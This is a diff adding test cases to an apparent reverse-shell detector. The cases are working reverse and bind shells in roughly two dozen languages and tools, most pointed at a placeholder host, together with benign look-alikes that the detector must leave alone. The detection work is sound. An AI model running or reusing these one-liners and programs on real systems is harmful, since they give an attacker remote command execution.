@@ -140,6 +140,121 @@ describe('content: remote shells', () => {
     expect(hit?.attack).toMatch(/^T1059/);
   });
 
+  // Each language's own way of wiring a connection to a shell, as the public generators
+  // write them (written here for the test, not copied).
+  it.each([
+    ['netcat for Windows', 'nc.exe 203.0.113.7 4444 -e cmd.exe'],
+    ['powercat', 'powercat -c 203.0.113.7 -p 4444 -e powershell'],
+    ['mknod and netcat', 'mknod /tmp/bp p && nc 203.0.113.7 4444 0</tmp/bp | /bin/sh 1>/tmp/bp'],
+    ['telnet around a shell', 'telnet 203.0.113.7 4444 | /bin/bash | telnet 203.0.113.7 4445'],
+    [
+      'curl telnet:// around a shell',
+      "T='curl -Ns telnet://203.0.113.7:4444'; $T </dev/null 2>&1 | sh 2>&1 | $T >/dev/null",
+    ],
+    [
+      "PHP's socket on descriptor 3",
+      'php -r \'$c=fsockopen("203.0.113.7",4444);`sh -i <&3 >&3 2>&3`;\'',
+    ],
+    ['rustcat', 'rcat connect -s /bin/bash 203.0.113.7 4444'],
+    [
+      'zsh ztcp',
+      "zsh -c 'zmodload zsh/net/tcp && ztcp 203.0.113.7 4444 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'",
+    ],
+    [
+      'gawk',
+      'gawk \'BEGIN { n = "/inet/tcp/0/203.0.113.7/4444"; while ((n |& getline c) > 0) { while ((c |& getline o) > 0) print o |& n; close(c) } }\'',
+    ],
+    [
+      'Tcl',
+      "echo 'set c [socket 203.0.113.7 4444]; while 1 { gets $c l; puts $c [exec sh -c $l]; flush $c }' | tclsh",
+    ],
+    [
+      'Ruby spawning a shell on the socket',
+      'ruby -rsocket -e \'spawn("/bin/sh", [:in, :out, :err] => TCPSocket.new("203.0.113.7", 4444))\'',
+    ],
+    [
+      'Ruby binding a port',
+      'ruby -rsocket -e \'srv = TCPServer.new(4444); c = srv.accept; [0, 1, 2].each { |fd| IO.new(fd).reopen(c) }; exec "/bin/sh -i"\'',
+    ],
+    [
+      'Python in threads, feeding a shell',
+      'import socket, subprocess, threading\n\ndef pump_in(conn, proc):\n    while True:\n        chunk = conn.recv(4096)\n        proc.stdin.write(chunk)\n        proc.stdin.flush()\n\nconn = socket.socket()\nconn.connect(("203.0.113.7", 4444))\nproc = subprocess.Popen(["/bin/bash"], stdin=subprocess.PIPE, stdout=subprocess.PIPE)\nthreading.Thread(target=pump_in, args=(conn, proc)).start()\n',
+    ],
+    [
+      'Python binding a port, subprocess under another name',
+      'import socket as so, subprocess as sp\nsrv = so.socket(); srv.bind(("0.0.0.0", 4444)); srv.listen(1); c, a = srv.accept()\nwhile True: line = c.recv(1024).decode(); out = sp.check_output(line, shell=True); c.send(out)\n',
+    ],
+    [
+      'Node.js',
+      'const { spawn } = require("child_process");\nconst net = require("net");\nconst sh = spawn("/bin/sh", []);\nconst s = new net.Socket();\ns.connect(4444, "203.0.113.7", () => { s.pipe(sh.stdin); sh.stdout.pipe(s); sh.stderr.pipe(s); });\n',
+    ],
+    [
+      'Node.js, net required inline',
+      'node -e \'const sh = require("child_process").spawn("sh"); require("net").connect(4444, "203.0.113.7", function () { this.pipe(sh.stdin); sh.stdout.pipe(this) })\'',
+    ],
+    [
+      'Java',
+      'import java.net.Socket;\nclass R { public static void main(String[] a) throws Exception {\n  Process p = new ProcessBuilder("/bin/sh").redirectErrorStream(true).start();\n  Socket s = new Socket("203.0.113.7", 4444);\n  var pin = p.getInputStream(); var sin = s.getInputStream(); var pout = p.getOutputStream(); var sout = s.getOutputStream();\n  while (!s.isClosed()) { while (pin.available() > 0) sout.write(pin.read()); while (sin.available() > 0) pout.write(sin.read()); sout.flush(); pout.flush(); Thread.sleep(20); }\n} }\n',
+    ],
+    [
+      'Go',
+      'package main\n\nimport (\n\t"net"\n\t"os/exec"\n)\n\nfunc main() {\n\tconn, _ := net.Dial("tcp", "203.0.113.7:4444")\n\tsh := exec.Command("/bin/sh")\n\tsh.Stdin, sh.Stdout, sh.Stderr = conn, conn, conn\n\tsh.Stdin = conn\n\tsh.Run()\n}\n',
+    ],
+    [
+      'Dart',
+      "import 'dart:io';\nvoid main() {\n  Socket.connect('203.0.113.7', 4444).then((sock) {\n    Process.start('/bin/sh', []).then((p) { sock.listen(p.stdin.add); p.stdout.listen(sock.add); });\n  });\n}\n",
+    ],
+    [
+      'Lua',
+      'local s = require("socket").tcp()\ns:connect("203.0.113.7", 4444)\nwhile true do\n  local line = s:receive()\n  local f = io.popen(line, "r")\n  s:send(f:read("*a"))\n  f:close()\nend\n',
+    ],
+    [
+      'PowerShell',
+      '$cl = New-Object System.Net.Sockets.TCPClient("203.0.113.7", 4444); $st = $cl.GetStream(); $buf = New-Object byte[] 65536; while (($n = $st.Read($buf, 0, $buf.Length)) -gt 0) { $cmd = [Text.Encoding]::ASCII.GetString($buf, 0, $n); $out = (iex $cmd 2>&1 | Out-String); $b = [Text.Encoding]::ASCII.GetBytes($out); $st.Write($b, 0, $b.Length) }',
+    ],
+    [
+      'C',
+      '#include <sys/socket.h>\n#include <arpa/inet.h>\n#include <unistd.h>\nint main(void) {\n  struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(4444) };\n  inet_pton(AF_INET, "203.0.113.7", &a.sin_addr);\n  int fd = socket(AF_INET, SOCK_STREAM, 0);\n  connect(fd, (struct sockaddr *)&a, sizeof a);\n  for (int i = 0; i < 3; i++) dup2(fd, i);\n  execl("/bin/sh", "sh", "-i", (char *)0);\n}\n',
+    ],
+    [
+      'C for Windows',
+      'SOCKET s = WSASocketA(AF_INET, SOCK_STREAM, IPPROTO_TCP, NULL, 0, 0);\nWSAConnect(s, (SOCKADDR *)&addr, sizeof addr, NULL, NULL, NULL, NULL);\nSTARTUPINFOA si = { sizeof si };\nsi.dwFlags = STARTF_USESTDHANDLES;\nsi.hStdInput = si.hStdOutput = si.hStdError = (HANDLE)s;\nCreateProcessA(NULL, "cmd.exe", NULL, NULL, TRUE, 0, NULL, NULL, &si, &pi);\n',
+    ],
+    [
+      'C#',
+      'using (var client = new TcpClient("203.0.113.7", 4444))\nusing (var stream = client.GetStream())\nusing (var reader = new StreamReader(stream)) {\n  var p = new Process();\n  p.StartInfo.FileName = "/bin/sh";\n  p.StartInfo.UseShellExecute = false;\n  p.StartInfo.RedirectStandardInput = true;\n  p.StartInfo.RedirectStandardOutput = true;\n  p.Start();\n  while (true) p.StandardInput.WriteLine(reader.ReadLine());\n}\n',
+    ],
+  ])('a reverse or bind shell in %s is a remote shell', (_, text) => {
+    const hit = reverseShell(added('/tmp/.x', text));
+    expect(hit?.severity).toBe('critical');
+    expect(hit?.reason).toMatch(/a remote shell for the attacker/);
+  });
+
+  it.each([
+    [
+      'a regex listing mobile browsers, pipes among its words',
+      'if (ua.matches("(?i).*(android|bada\\/|blackberry|hiptop|sh|ip(hone|od)|telnet|kindle).*")) {}',
+    ],
+    [
+      'Node.js piping a socket into a compressor',
+      'const cp = require("child_process");\nconst net = require("net");\nconst gz = cp.spawn("gzip", ["-c"]);\nconst s = net.connect(9000, "backup.internal");\ns.pipe(gz.stdin);\ngz.stdout.pipe(fs.createWriteStream("/var/backups/in.gz"));\n',
+    ],
+    [
+      'Go running git with its own input beside a dial',
+      'conn, _ := net.Dial("tcp", "cache:6379")\ndefer conn.Close()\ncmd := exec.Command("git", "apply")\ncmd.Stdin = strings.NewReader(patch)\ncmd.Run()\n',
+    ],
+    [
+      'Python writing what it receives to a compressor',
+      'import socket, subprocess\ns = socket.socket(); s.connect(("logs", 514))\nz = subprocess.Popen(["gzip", "-c"], stdin=subprocess.PIPE)\nwhile True:\n    z.stdin.write(s.recv(4096))\n',
+    ],
+    [
+      'Java copying a socket to a file beside a process run',
+      'Socket s = new Socket("db", 5432);\nnew ProcessBuilder("pg_dump").start();\nOutputStream f = new FileOutputStream("/tmp/x");\nf.write(s.getInputStream().readAllBytes());\n',
+    ],
+  ])('leaves %s alone', (_, text) => {
+    expect(reverseShell(added('/usr/local/bin/check', text)), text).toBeUndefined();
+  });
+
   it('leaves scripts that only talk to the network alone', () => {
     for (const text of [
       'nc -z db 5432 && echo up',
